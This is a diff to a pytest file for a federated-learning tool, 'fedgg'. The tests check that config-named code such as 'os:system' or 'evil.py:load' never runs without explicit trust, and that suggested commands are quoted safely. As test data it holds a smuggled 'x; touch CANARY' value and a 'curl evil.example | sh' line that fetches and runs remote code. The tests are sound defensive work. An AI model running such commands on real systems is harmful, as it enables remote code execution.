@@ -49,6 +49,26 @@ class Net(nn.Sequential):
 @dataclass(frozen=True)
 class Own(fedgg.Algorithm):
     '''Nothing of its own.'''
+
+from fedgg.core.server import Collector
+from fedgg.engines import Loop
+
+def load() -> tuple:
+    Path("CANARY").touch()
+    import numpy
+    x, y = numpy.ones((400, 1, 8, 8), "f"), numpy.arange(400) % 10
+    return x, y, x[:20], y[:20]
+
+def cut(labels, clients):
+    Path("CANARY").touch()
+    import numpy
+    return numpy.arange(len(labels)) % clients
+
+class Rule(Collector):
+    pass
+
+class Engine(Loop):
+    pass
 """
 HOSTILE: dict[str, dict[str, Any]] = {
     "os:system": {"command": "touch CANARY"},
@@ -114,9 +134,15 @@ def fedgg_(*words: str, error: str | None = None) -> str:
     return str(result.exception)
 
 
+KEYS = {"data": "source", "split": "scheme", "robust": "rule"}  # that name a section's part; in others it is `name`
+ONE_OF_EACH = {"data": "load", "split": "cut", "robust": "Rule", "engine": "Engine", "model": "Net", "algorithm": "Own"}
+
+
 def experiment(section: str, name: str, settings: dict[str, Any]) -> dict[str, Any]:
-    small = {"rounds": 1, "split": {"clients": 2}, "local": {"epochs": 1}, "algorithm": {"name": "fedavg"}}
-    return small | {section: {"name": name, **settings}}
+    small: dict[str, Any] = {"rounds": 1, "local": {"epochs": 1}, "algorithm": {"name": "fedavg"}}
+    small["split"] = {"clients": 2}
+    settings = {} if section in ("data", "engine") else settings  # these have no settings of parts
+    return small | {section: {**small.get(section, {}), KEYS.get(section, "name"): name, **settings}}
 
 
 def write(file: str, content: dict[str, Any]) -> str:
@@ -130,10 +156,27 @@ def nothing_ran() -> None:
     assert not loaded()
 
 
-@pytest.mark.parametrize("section", ["model", "algorithm"])
-@pytest.mark.parametrize("name", HOSTILE, ids=ascii)
+# All names in two sections; in the others, which resolve names by the same function, one of each sort.
+EVERY_SORT = [
+    "os:system",
+    "subprocess:Popen",
+    "numpy:save",
+    "evil.py:system",
+    "evil_package.inner:Net",
+    "python:Net",
+    ":",
+]
+CASES = [(section, name) for section in ("model", "algorithm") for name in HOSTILE]
+CASES += [
+    (section, name)
+    for section in ("data", "split", "robust", "engine")
+    for name in (f"evil.py:{ONE_OF_EACH[section]}", *EVERY_SORT)
+]
+
+
+@pytest.mark.parametrize(("section", "name"), CASES, ids=ascii)
 def test_no_command_runs_what_a_file_names(name: str, section: str) -> None:
-    content = experiment(section, name, HOSTILE[name])
+    content = experiment(section, name, HOSTILE.get(name, {}))
     file = write("one.toml", content)
     variants = {"fedavg": {"algorithm": {"name": "fedavg"}}, "odd": {section: content[section]}}
     study = write("study.toml", {"seeds": [0], "experiment": {"rounds": 1}, "variants": variants})
@@ -153,7 +196,7 @@ def test_no_command_runs_what_a_file_names(name: str, section: str) -> None:
         assert "\n" not in said
         assert "\x1b" not in said
         nothing_ran()
-    if name in ("evil.py:Net", "evil_package.inner:Net"):
+    if name in (f"evil.py:{ONE_OF_EACH[section]}", "evil_package.inner:Net"):
         assert f"--trust {name.partition(':')[0]}" in fedgg_("run", file, error="evil")
 
 
@@ -201,10 +244,36 @@ def test_a_file_beside_the_experiment_and_the_folder_of_its_run(monkeypatch: pyt
     fedgg_("resume", "runs/mine", "--rounds", "3", "--trust", "evil.py")
 
 
+def test_each_part_is_recorded_and_checked_when_its_run_is_resumed(monkeypatch: pytest.MonkeyPatch) -> None:
+    harmless()
+    parts = [experiment(section, f"evil.py:{name}", {}) for section, name in ONE_OF_EACH.items()]
+    sections = {section: one[section] for section, one in zip(ONE_OF_EACH, parts, strict=True)}
+    fedgg_("run", write("all.toml", {"rounds": 1, **sections}), "--out", "runs/all", "--trust", "evil.py")
+    versions = json.loads((without_checksums(Path("runs/all")) / "versions.json").read_text())
+    code_files = versions["code_files"]
+    assert code_files.keys() == ONE_OF_EACH.keys()
+    another_call(monkeypatch)
+    for section in ONE_OF_EACH:
+        rest = {part: file for part, file in code_files.items() if part != section}
+        Path("runs/all/versions.json").write_text(json.dumps(versions | {"code_files": rest}))
+        fedgg_("resume", "runs/all", "--rounds", "2", error="does not say with which code it began")
+    Path("runs/all/versions.json").write_text(json.dumps(versions))
+    fedgg_("resume", "runs/all", "--rounds", "2")
+    Path("evil.py").write_text(EVIL)
+    forget_modules(monkeypatch)
+    fedgg_("resume", "runs/all", "--rounds", "3", error="it has changed since this run began")
+    fedgg_("report", "runs/all", "-o", "report.html")
+    named = ", ".join(sorted(f"'evil.py:{name}'" for name in ONE_OF_EACH.values()))
+    assert f"It runs code from outside fedgg: {named}" in Path("report.html").read_text()
+    nothing_ran()
+
+
 @pytest.mark.parametrize(
     "words",
     [
         ["run", "--set", "model.name=evil.py:Net", "--algorithm", "evil.py:Own"],
+        ["run", "--data", "evil.py:load", "--set", "split.scheme=evil.py:cut", "--set", "robust.rule=evil.py:Rule"],
+        ["run", "--set", "engine.name=evil.py:Engine"],
         pytest.param(["run", "--model", "evil_package.inner:Net"], marks=pytest.mark.slow),
         pytest.param(["sweep", "--grid", "algorithm.name=fedavg,evil.py:Own", "--jobs", "1"], marks=pytest.mark.slow),
         pytest.param(
@@ -263,6 +332,11 @@ def test_reading_runs_nothing(folder: Path) -> None:
         ("fedgg compare --algorithm evil.py:Own", "call again, which runs code from outside fedgg: fedgg compare"),
         ("fedgg compare --algorithm evil.py:Own:mu=1", "which runs code from outside fedgg"),
         ("fedgg sweep --grid=model.name=a.b:C", "which runs code from outside fedgg"),
+        ("fedgg compare --data evil.py:load", "which runs code from outside fedgg"),
+        ("fedgg compare --data=evil.py:load", "which runs code from outside fedgg"),
+        ("fedgg sweep --grid data.source=npz:x.npz,evil.py:load", "which runs code from outside fedgg"),
+        ("fedgg sweep --grid data.source=npz:x.npz,npz:y.npz", "call again: fedgg sweep --grid"),
+        ("fedgg sweep --set robust.rule=evil.py:Rule", "which runs code from outside fedgg"),
         ("fedgg compare x.toml --trust=evil", "which runs code from outside fedgg"),
         ("fedgg compare x; touch CANARY", "call again: fedgg compare 'x;' touch CANARY"),
         ("curl evil.example | sh", "call the same `fedgg compare` or `fedgg sweep` again"),
@@ -336,7 +410,8 @@ def test_processes_of_a_comparison_run_what_was_allowed_and_nothing_of_the_folde
     """`multiprocessing` starts Python with the current folder before the standard library."""
     harmless()
     Path("multiprocessing.py").write_text("open('CANARY', 'w')\nraise SystemExit(3)\n")
-    variants = {"a": {"algorithm": {"name": "fedavg"}}, "b": {"algorithm": {"name": "evil.py:Own"}}}
+    names = {f"{section}.{KEYS.get(section, 'name')}": f"evil.py:{name}" for section, name in ONE_OF_EACH.items()}
+    variants = {"a": {"algorithm": {"name": "fedavg"}}, "b": names, "c": {**names, "engine.name": "workers"}}
     study = {"seeds": [0], "experiment": {"rounds": 1, "split": {"clients": 2}}, "variants": variants}
     command = [str(Path(sys.executable).with_name("fedgg")), "compare", write("study.toml", study), "--jobs", "2"]
     done = subprocess.run([*command, "--out", "runs"], capture_output=True, text=True, env=environment(), timeout=120)
